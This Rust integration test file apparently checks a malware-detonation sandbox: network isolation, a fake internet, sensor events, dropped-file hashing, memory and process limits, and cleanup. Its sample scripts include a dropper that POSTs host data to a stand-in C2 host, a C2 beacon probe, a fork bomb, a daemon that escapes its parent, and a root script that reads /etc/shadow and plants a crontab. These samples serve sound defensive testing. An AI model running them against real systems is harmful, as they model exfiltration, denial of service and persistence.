//! Live detonations: isolation, fake internet, sensor events, dropped
//! files, and nothing left behind.

mod common;

use std::io::Read;
use std::time::Duration;

use common::*;
use ioclab_sandbox::Detonator;
use serde_json::Value;

fn events(d: &ioclab_sandbox::Detonation) -> Vec<Value> {
    d.events.iter().map(|l| serde_json::from_str(l).expect("event lines are JSON")).collect()
}

fn name(e: &Value) -> &str {
    e["info"]["event"]["name"].as_str().unwrap_or("")
}

const STAGE2: &str =
    "#!/bin/sh\necho second stage running\ncurl -s -X POST -d 'id=42&os=linux' http://c2.evil.test/gate.php\n";

#[test]
fn a_dropper_shows_its_events_network_and_dropped_file() {
    let Some(sb) = sandbox() else { return };
    let dir = tempfile::tempdir().unwrap();
    let sample =
        format!("#!/bin/sh\ncat > /tmp/stage2 <<'EOF'\n{STAGE2}EOF\nchmod +x /tmp/stage2\n/tmp/stage2\nid -u\n");
    let job = job(101, dir.path(), "dropper.sh", &sample, 60);
    let task_dir = dir.path().join("task");
    let d = sb.detonate(&job, &task_dir).expect("detonation");
    let output = std::fs::read_to_string(task_dir.join("output.log")).unwrap();
    assert!(d.errors.is_empty(), "errors: {:?}", d.errors);
    assert!(!d.timed_out);
    assert_eq!(d.exit_code, Some(0), "output: {output}");
    assert!(output.contains("second stage running"), "{output}");
    assert!(output.contains("65534"), "runs as nobody: {output}");

    // the sample's hashes are coreutils'
    let facts = d.sample.as_ref().unwrap();
    let sample_path = dir.path().join("dropper.sh");
    assert_eq!(facts.sha256.to_string(), digest("sha256sum", &sample_path));
    assert_eq!(facts.md5.to_string(), digest("md5sum", &sample_path));
    assert_eq!(d.package, "sh");

    // events: the dropper and its second stage, from the sensor
    let ev = events(&d);
    let root = d.root_pid.expect("root pid");
    assert!(ev.iter().all(|e| !e["info"]["task"]["tgid"].is_null()));
    let stage2_exec = ev.iter().find(|e| name(e) == "execve_script" && e["data"]["exe"]["path"] == "/tmp/stage2");
    assert!(stage2_exec.is_some(), "no execve_script of /tmp/stage2 in {:?}", ev.iter().map(name).collect::<Vec<_>>());
    assert!(ev
        .iter()
        .any(|e| name(e) == "execve" && e["data"]["command_line"].as_str().unwrap_or("").starts_with("curl")));
    assert!(ev.iter().any(|e| e["info"]["task"]["tgid"].as_u64() == Some(root as u64)));
    let setup = ev
        .iter()
        .find(|e| name(e) != "clone" && e["info"]["task"]["name"].as_str().is_some_and(|n| n.starts_with("a_dropper")));
    assert!(setup.is_none(), "the sandbox's own setup is not the sample's behaviour: {setup:?}");
    let fork = ev.iter().find(|e| name(e) == "clone" && e["info"]["task"]["tgid"] == root).expect("the sample's clone");
    assert_eq!(fork["info"]["task"]["name"], "ioclab-init", "the sandbox's init started it");
    // stored gzipped next to the report
    let mut text = String::new();
    flate2::read::GzDecoder::new(std::fs::File::open(task_dir.join("kunai.jsonl.gz")).unwrap())
        .read_to_string(&mut text)
        .unwrap();
    assert_eq!(text.lines().count(), d.events.len());

    // network: resolved, then POSTed
    let q = d.network.dns.iter().find(|q| q.name == "c2.evil.test").expect("DNS query of c2.evil.test");
    assert_eq!(q.answers[0].1, "192.0.2.1");
    let post = d.network.http.iter().find(|h| h.host == "c2.evil.test").expect("HTTP request");
    assert_eq!((post.method.as_str(), post.path.as_str()), ("POST", "/gate.php"));
    assert!(post.user_agent.as_deref().unwrap_or("").starts_with("curl/"));
    let body = dir.path().join("body");
    std::fs::write(&body, "id=42&os=linux").unwrap();
    assert_eq!(post.body_size, 14);
    assert_eq!(post.body_sha256.unwrap().to_string(), digest("sha256sum", &body));
    assert_eq!(post.dst.to_string(), "192.0.2.1:80");

    // dropped: the second stage, hashes equal to sha256sum's, a copy kept
    let stage2 = d.dropped.iter().find(|f| f.guest_path == "/tmp/stage2").expect("dropped /tmp/stage2");
    let expected = dir.path().join("stage2");
    std::fs::write(&expected, STAGE2).unwrap();
    assert_eq!(stage2.facts.sha256.to_string(), digest("sha256sum", &expected));
    assert_eq!(stage2.facts.sha256.to_string(), digest("sha256sum", &task_dir.join(&stage2.stored)));
    assert!(!stage2.truncated);
    assert!(!stage2.pids.is_empty(), "the writer's pid comes from the file events");
    assert!(d.dropped.iter().all(|f| f.guest_path != "/tmp/dropper.sh"), "the sample itself is not dropped");

    assert!(leftovers(std::process::id(), Some(101)).is_empty(), "{:?}", leftovers(std::process::id(), Some(101)));
}

/// Probes written in Python (from the host's /usr, read-only in the sandbox).
const EGRESS: &str = r#"#!/usr/bin/env python3
import socket, struct, sys
port = int(sys.argv[1])
# DNS over UDP to a public resolver
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\x07example\x03com\x00" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(q, ("1.1.1.1", 53))
data, peer = s.recvfrom(512)
print("dns answer from", peer[0], len(data))
# a C2 on a TEST-NET address
c = socket.create_connection(("203.0.113.7", 4444), timeout=5)
c.sendall(b"HELLO-C2 beacon")
c.close()
# the host's loopback listener
try:
    h = socket.create_connection(("127.0.0.1", port), timeout=5)
    h.sendall(b"ESCAPED")
    print("host listener reached")
except OSError as e:
    print("host listener refused:", e)
# a datagram to nowhere
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"udp-ping", ("198.51.100.9", 9999))
"#;

#[test]
fn a_sample_reaches_only_the_sinks_never_the_host() {
    let Some(sb) = sandbox() else { return };
    let host = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    host.set_nonblocking(true).unwrap();
    let port = host.local_addr().unwrap().port();
    let dir = tempfile::tempdir().unwrap();
    let mut job = job(102, dir.path(), "egress.py", EGRESS, 60);
    job.args = vec![port.to_string()];
    let task_dir = dir.path().join("task");
    let d = sb.detonate(&job, &task_dir).expect("detonation");
    let output = std::fs::read_to_string(task_dir.join("output.log")).unwrap();
    assert!(d.errors.is_empty(), "errors: {:?}", d.errors);
    assert_eq!(d.package, "python3");
    assert_eq!(d.exit_code, Some(0), "output: {output}");
    assert!(output.contains("dns answer from 1.1.1.1"), "the fake resolver answers as the address asked: {output}");
    assert!(output.contains("host listener refused"), "{output}");

    let q = d.network.dns.iter().find(|q| q.name == "example.com").expect("the query to 1.1.1.1 reached the resolver");
    assert_eq!(q.answers, vec![("A".to_string(), "192.0.2.1".to_string())]);
    let c2 = d.network.tcp.iter().find(|f| f.dst.to_string() == "203.0.113.7:4444").expect("the C2 sink got it");
    assert_eq!(c2.head, b"HELLO-C2 beacon");
    assert_eq!(c2.bytes, 15);
    let dead = format!("127.0.0.1:{port}");
    assert!(d.network.dead_hosts.iter().any(|a| a.to_string() == dead), "{:?}", d.network.dead_hosts);
    let udp = d.network.udp.iter().find(|f| f.dst.to_string() == "198.51.100.9:9999").expect("UDP datagram recorded");
    assert_eq!(udp.head, b"udp-ping");
    // the host's listener never saw a connection
    assert!(matches!(host.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock));
}

/// A double-forking daemon (setsid, parent exits) with a recognisable command line.
const DAEMON: &str = "#!/bin/sh\n( setsid sh -c 'sleep 7771 & exit 0' & )\nexit 0\n";

#[test]
fn a_daemon_is_killed_at_the_timeout_and_nothing_is_left() {
    let Some(sb) = sandbox() else { return };
    let dir = tempfile::tempdir().unwrap();
    let job = job(103, dir.path(), "daemon.sh", DAEMON, 3);
    let d = sb.detonate(&job, &dir.path().join("task")).expect("detonation");
    assert!(d.errors.is_empty(), "errors: {:?}", d.errors);
    assert!(d.timed_out, "the daemon outlives the sample: the task ends at the timeout");
    assert!(d.ended - d.started < 30.0);
    assert_eq!(d.exit_code, Some(0), "the sample's own exit, from its exit_group event");
    assert!(
        events(&d).iter().any(|e| name(e) == "execve" && e["data"]["command_line"] == "sleep 7771"),
        "the daemon ran"
    );
    assert!(processes_with("sleep 7771").is_empty(), "{:?}", processes_with("sleep 7771"));
    assert!(in_task_namespaces(&d.events).is_empty(), "{:?}", in_task_namespaces(&d.events));
    assert!(leftovers(std::process::id(), Some(103)).is_empty(), "{:?}", leftovers(std::process::id(), Some(103)));
}

#[test]
fn a_fork_bomb_is_contained_and_nothing_is_left() {
    let Some(sb) = sandbox() else { return };
    let dir = tempfile::tempdir().unwrap();
    let mut job = job(104, dir.path(), "bomb.sh", "#!/bin/bash\nb() { sleep 7772 & b | b & }\nb\n", 4);
    job.max_pids = 64;
    let started = std::time::Instant::now();
    // the appliance keeps answering meanwhile
    let pinger = std::thread::spawn(move || {
        let mut worst = Duration::ZERO;
        while started.elapsed() < Duration::from_secs(3) {
            let t = std::time::Instant::now();
            assert!(std::process::Command::new("true").status().unwrap().success());
            worst = worst.max(t.elapsed());
            std::thread::sleep(Duration::from_millis(100));
        }
        worst
    });
    let d = sb.detonate(&job, &dir.path().join("task")).expect("detonation");
    assert!(d.errors.is_empty(), "errors: {:?}", d.errors);
    let _ = pinger.join().unwrap();
    assert!(events(&d).iter().filter(|e| name(e) == "clone").count() > 20, "it did fork");
    assert!(d.timed_out);
    assert!(processes_with("sleep 7772").is_empty(), "{:?}", processes_with("sleep 7772"));
    assert!(in_task_namespaces(&d.events).is_empty(), "{:?}", in_task_namespaces(&d.events));
    assert!(leftovers(std::process::id(), Some(104)).is_empty(), "{:?}", leftovers(std::process::id(), Some(104)));
}

#[test]
fn a_script_that_ends_with_its_parents_at_once_is_still_hashed() {
    let Some(sb) = sandbox() else { return };
    let dir = tempfile::tempdir().unwrap();
    // no process of the task is left to read /tmp/quick through once it ran:
    // only the task's root, lent to the sensor, leads there
    const QUICK: &str = "#!/bin/sh\nexit 0 # a second stage that ends at once\n";
    let sample = format!("#!/bin/sh\nprintf '%s' '{QUICK}' > /tmp/quick\nchmod +x /tmp/quick\nexec /tmp/quick\n");
    let job = job(110, dir.path(), "quick.sh", &sample, 30);
    let d = sb.detonate(&job, &dir.path().join("task")).expect("detonation");
    let plain = dir.path().join("quick");
    std::fs::write(&plain, QUICK).unwrap();
    let ev = events(&d);
    let quick = ev
        .iter()
        .find(|e| name(e) == "execve_script" && e["data"]["exe"]["path"] == "/tmp/quick")
        .unwrap_or_else(|| panic!("no execve_script of /tmp/quick in {:?}", ev.iter().map(name).collect::<Vec<_>>()));
    assert_eq!(quick["data"]["exe"]["sha256"], digest("sha256sum", &plain), "{}", quick["data"]["exe"]);
    assert!(leftovers(std::process::id(), Some(110)).is_empty());
}

#[test]
fn data_files_have_no_package() {
    let Some(sb) = sandbox() else { return };
    let dir = tempfile::tempdir().unwrap();
    let job = job(105, dir.path(), "blob.bin", "\u{0}\u{1}\u{2}binary", 3);
    let e = sb.detonate(&job, &dir.path().join("task")).unwrap_err();
    assert!(matches!(e, ioclab_sandbox::DetonateError::NoPackage { .. }), "{e}");
    assert!(e.to_string().contains("blob.bin"), "{e}");
    assert!(leftovers(std::process::id(), Some(105)).is_empty());
}

/// The sandbox's view: read-only system, private writable folders, own
/// hostname, pid 1 its init, no host processes, only loopback.
const LOOK_AROUND: &str = r#"#!/bin/sh
echo "host=$(hostname)"
touch /usr/ioclab-escape 2>/dev/null && echo "usr writable" || echo "usr read-only"
touch /etc/ioclab-escape 2>/dev/null && echo "etc writable" || echo "etc read-only"
echo hi > /tmp/t && echo "tmp writable"
echo hi > /dev/shm/t && echo "shm writable"
echo "procs=$(ls /proc | grep -c '^[0-9]')"
echo "links=$(ls /sys/class/net 2>/dev/null | wc -l) $(cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' ' | tr '\n' ,)"
echo "work=$(ls /work 2>&1 | head -1)"
echo "resolv=$(grep nameserver /etc/resolv.conf)"
"#;

#[test]
fn the_sample_sees_a_read_only_system_and_nothing_of_the_host() {
    let Some(sb) = sandbox() else { return };
    let dir = tempfile::tempdir().unwrap();
    let job = job(106, dir.path(), "look.sh", LOOK_AROUND, 30);
    let task_dir = dir.path().join("task");
    let d = sb.detonate(&job, &task_dir).expect("detonation");
    assert!(d.errors.is_empty(), "errors: {:?}", d.errors);
    let out = std::fs::read_to_string(task_dir.join("output.log")).unwrap();
    assert_eq!(d.exit_code, Some(0), "{out}");
    for want in [
        "host=sandbox",
        "usr read-only",
        "etc read-only",
        "tmp writable",
        "shm writable",
        "links=0 lo,",
        "resolv=nameserver 127.0.0.53",
    ] {
        assert!(out.contains(want), "{want:?} not in:\n{out}");
    }
    assert!(out.contains("work=ls: cannot access"), "/work is not visible: {out}");
    let procs: usize = out.lines().find_map(|l| l.strip_prefix("procs=")).unwrap().trim().parse().unwrap();
    assert!(procs <= 6, "only the task's processes are visible, got {procs}:\n{out}");
    assert!(
        !std::path::Path::new("/usr/ioclab-escape").exists() && !std::path::Path::new("/etc/ioclab-escape").exists()
    );
    // what it wrote in /tmp is collected
    assert!(
        d.dropped.iter().any(|f| f.guest_path == "/tmp/t") && d.dropped.iter().any(|f| f.guest_path == "/dev/shm/t")
    );
}

#[test]
fn the_memory_limit_holds() {
    let Some(sb) = sandbox() else { return };
    let dir = tempfile::tempdir().unwrap();
    let sample = "#!/usr/bin/env python3\nblocks = []\nfor i in range(64):\n    blocks.append(bytearray(16 << 20))\nprint('allocated 1 GiB')\n";
    let mut job = job(107, dir.path(), "hog.py", sample, 60);
    job.memory_bytes = 64 << 20;
    let task_dir = dir.path().join("task");
    let d = sb.detonate(&job, &task_dir).expect("detonation");
    let out = std::fs::read_to_string(task_dir.join("output.log")).unwrap();
    assert!(!out.contains("allocated"), "{out}");
    assert_eq!(d.exit_code, Some(137), "killed by the OOM killer (SIGKILL): {out}");
    assert!(leftovers(std::process::id(), Some(107)).is_empty());
}

#[test]
fn a_url_job_fetches_with_curl_inside() {
    let Some(sb) = sandbox() else { return };
    let dir = tempfile::tempdir().unwrap();
    let mut job = job(108, dir.path(), "unused", "", 60);
    job.target = ioclab_sandbox::detonation::Target::Url("http://why.kunai.rocks/payload.sh".into());
    let task_dir = dir.path().join("task");
    let d = sb.detonate(&job, &task_dir).expect("detonation");
    assert!(d.errors.is_empty(), "errors: {:?}", d.errors);
    assert_eq!((d.package.as_str(), d.sample.is_none(), d.exit_code), ("curl", true, Some(0)));
    let get = d.network.http.iter().find(|h| h.host == "why.kunai.rocks").expect("the fetch");
    assert_eq!((get.path.as_str(), get.dst.to_string()), ("/payload.sh", "127.0.66.80:80".to_string()));
    let out = std::fs::read_to_string(task_dir.join("output.log")).unwrap();
    assert!(out.contains("ioclab sink"), "{out}");
}

/// Root when asked, still without the capabilities that reach the host
/// kernel, still not seeing the host's secrets; writes to /var are private.
const AS_ROOT: &str = r#"#!/bin/sh
echo "uid=$(id -u)"
grep CapEff /proc/self/status
echo "shadow=$(wc -c < /etc/shadow)"
echo '* * * * * root /tmp/x' > /var/spool/cron/crontabs/root && echo "cron written"
mount -t tmpfs none /mnt 2>/dev/null && echo "mounted" || echo "mount refused"
"#;

#[test]
fn root_when_asked_without_the_host_reaching_capabilities() {
    let Some(sb) = sandbox() else { return };
    let dir = tempfile::tempdir().unwrap();
    let mut job = job(109, dir.path(), "root.sh", AS_ROOT, 30);
    job.as_root = true;
    let task_dir = dir.path().join("task");
    let d = sb.detonate(&job, &task_dir).expect("detonation");
    let out = std::fs::read_to_string(task_dir.join("output.log")).unwrap();
    assert!(out.contains("uid=0") && out.contains("cron written") && out.contains("mount refused"), "{out}");
    assert!(out.contains("shadow=0"), "the host's /etc/shadow is masked: {out}");
    let cap_eff = out.lines().find_map(|l| l.strip_prefix("CapEff:")).unwrap().trim();
    let caps = u64::from_str_radix(cap_eff, 16).unwrap();
    for cap in [16, 21, 39] {
        assert_eq!(caps & (1 << cap), 0, "capability {cap} dropped: {out}");
    }
    let cron = d.dropped.iter().find(|f| f.guest_path == "/var/spool/cron/crontabs/root").expect("cron file dropped");
    assert_eq!(cron.facts.size, 22);
    assert!(
        !std::path::Path::new("/var/spool/cron/crontabs/root").exists() || {
            let host = std::fs::read_to_string("/var/spool/cron/crontabs/root").unwrap_or_default();
            !host.contains("/tmp/x")
        }
    );
}

#[test]
fn enforce_timeout_runs_the_whole_timeout() {
    let Some(sb) = sandbox() else { return };
    let dir = tempfile::tempdir().unwrap();
    let mut job = job(110, dir.path(), "quick.sh", "#!/bin/sh\nexit 3\n", 2);
    job.enforce_timeout = true;
    let d = sb.detonate(&job, &dir.path().join("task")).expect("detonation");
    assert!(d.errors.is_empty(), "errors: {:?}", d.errors);
    assert_eq!(d.exit_code, Some(3));
    assert!(!d.timed_out, "nothing had to be killed");
    assert!(d.ended - d.started >= 2.0, "the task lasted its timeout: {}", d.ended - d.started);
}

#[test]
fn a_task_holds_nothing_of_another() {
    let Some(sb) = sandbox() else { return };
    // a lab network that exists when the task starts...
    let other = ioclab_sandbox::fakenet::FakeNet::start(Default::default()).expect("fake internet");
    let other_ns = ns_inode(other.netns().fd());
    let dir = tempfile::tempdir().unwrap();
    let job = job(111, dir.path(), "long.sh", "#!/bin/sh\nsleep 7790\n", 600);
    let task_dir = dir.path().join("task");
    std::thread::scope(|s| {
        let task = s.spawn(|| sb.detonate(&job, &task_dir));
        let deadline = std::time::Instant::now() + Duration::from_secs(60);
        while processes_with("sleep 7790").is_empty() {
            assert!(std::time::Instant::now() < deadline, "the task started within 60 s");
            std::thread::sleep(Duration::from_millis(50));
        }
        // ...is gone when it stops, though the task (forked meanwhile) still runs
        drop(other);
        let held = netns_in_use(other_ns);
        let running = processes_with("sleep 7790");
        for p in &running {
            let pid: i32 = p.split(':').next().unwrap().parse().unwrap();
            // SAFETY: ends the test's own task early; the sandbox reaps it.
            unsafe { libc::kill(pid, libc::SIGKILL) };
        }
        let d = task.join().unwrap().expect("detonation");
        assert!(!running.is_empty());
        assert!(held.is_empty(), "the task held another network namespace: {held:?}");
        assert_eq!(d.exit_code, Some(137));
    });
}
